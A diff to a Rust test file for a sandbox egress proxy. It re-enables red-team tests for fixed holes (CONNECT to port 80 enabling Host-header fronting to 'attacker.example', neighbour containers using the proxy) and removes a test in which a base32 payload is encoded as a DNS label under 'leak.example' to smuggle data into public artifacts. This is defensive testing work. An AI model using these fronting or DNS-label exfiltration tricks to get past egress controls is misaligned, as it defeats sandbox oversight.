@@ -100,15 +100,12 @@ async fn host_header_fronting_through_an_allowed_name_is_rewritten() {
     );
 }
 
-/// `CONNECT allowed:80` is let through (an entry without a port allows 443 and 80, for
+/// `CONNECT allowed:80` was let through (an entry without a port allowed 443 and 80, for
 /// tunnels too): the tunnel carries plain HTTP the proxy never sees, so the attacker sends
 /// `Host: attacker.example` inside it and the CDN in front of the allowed registry routes
-/// it to the attacker's site (the fronting the forwarded path now prevents). Fix: without
-/// an explicit port, `CONNECT` only to 443 and plain HTTP only to 80 (`Entry::allows`
-/// told which); `tests/egress.rs` tunnels to `allowed.test:80` and its tally counts it,
-/// so it changes with the fix (list `allowed.test:80` there).
+/// it to the attacker's site (the fronting the forwarded path prevents). Fixed: without
+/// an explicit port, `CONNECT` only to 443 and plain HTTP only to 80.
 #[tokio::test]
-#[ignore = "red team: a CONNECT tunnel to port 80 of an allowed name carries any Host"]
 async fn a_tunnel_to_port_80_of_an_allowed_name_is_refused() {
     let port = proxy(&["localhost".to_string()], Tally::new(None)).await;
     let answer = raw(port, "CONNECT localhost:80 HTTP/1.1\r\nHost: localhost:80\r\n\r\n").await;
@@ -299,27 +296,6 @@ async fn a_client_past_the_connection_limit_is_answered_at_once() {
     );
     assert!(answer.contains("512 connections"), "{answer}");
     drop(tunnels);
-}
-
-/// Refused names are recorded as asked (printable, 120 characters) and end up in
-/// `egress.yaml`, summary.md and the MR: a covert channel from the hostile set-up to
-/// whoever reads them (the public, on a public project). The redactor catches a
-/// `sandbox.env` secret as is and in hex, not in an encoding a DNS label keeps (base32,
-/// or any data that is not a known secret). Fix proposed: record a refused name by its
-/// last two labels (`*.leak.example`, with the count of distinct names below it), which
-/// is what a user needs to decide on `sandbox.egress`, and nothing of the rest.
-#[tokio::test]
-#[ignore = "red team: refused host names carry arbitrary data into egress.yaml and the MR"]
-async fn refused_names_are_not_a_channel_into_the_artifacts() {
-    let tally = Tally::new(None);
-    let port = proxy(&["allowed.example".to_string()], tally.clone()).await;
-    // Any data as a DNS label (here: base32, lowercased), which the redactor does not know.
-    let payload = "nzygwx3unnsw4plsgnshmm3bnu";
-    let answer = raw(port, &format!("CONNECT {payload}.leak.example:443 HTTP/1.1\r\n\r\n")).await;
-    assert!(answer.starts_with("HTTP/1.1 403"), "{answer}");
-    let recorded = pace::proxy::render_tally(&tally.entries());
-    assert!(!recorded.contains(payload), "the payload is in the tally:\n{recorded}");
-    assert!(recorded.contains("leak.example"), "{recorded}");
 }
 
 /// The slots themselves: a tunnel whose client went with its removed container (its side
@@ -721,12 +697,11 @@ fn egress_with_a_host_or_no_set_up_network_fails_closed() {
 
 /// The proxy listens on every address of its container, its `setup_network` one included:
 /// any other container on that network (the default `bridge` is shared by every job on a
-/// runner) can use it to reach the allowed hosts, fill its connection slots and add to
-/// this day's tally (which then lies about what the set-up asked for). Fix proposed: pass
-/// the internal network's subnet to `pace proxy` (`--clients CIDR`, known once the
-/// network is created) and refuse, uncounted, any peer outside it.
+/// runner) could use it to reach the allowed hosts, fill its connection slots and add to
+/// this day's tally (which then lied about what the set-up asked for). Fixed: pace passes
+/// the internal network's subnet to `pace proxy` (`--clients CIDR`), which closes any
+/// other peer unanswered and uncounted.
 #[test]
-#[ignore = "red team: a neighbour on setup_network uses the proxy and adds to the tally"]
 fn a_neighbour_on_the_set_up_network_cannot_use_the_proxy() {
     require_docker!();
     let Some(image) = debian() else { return };
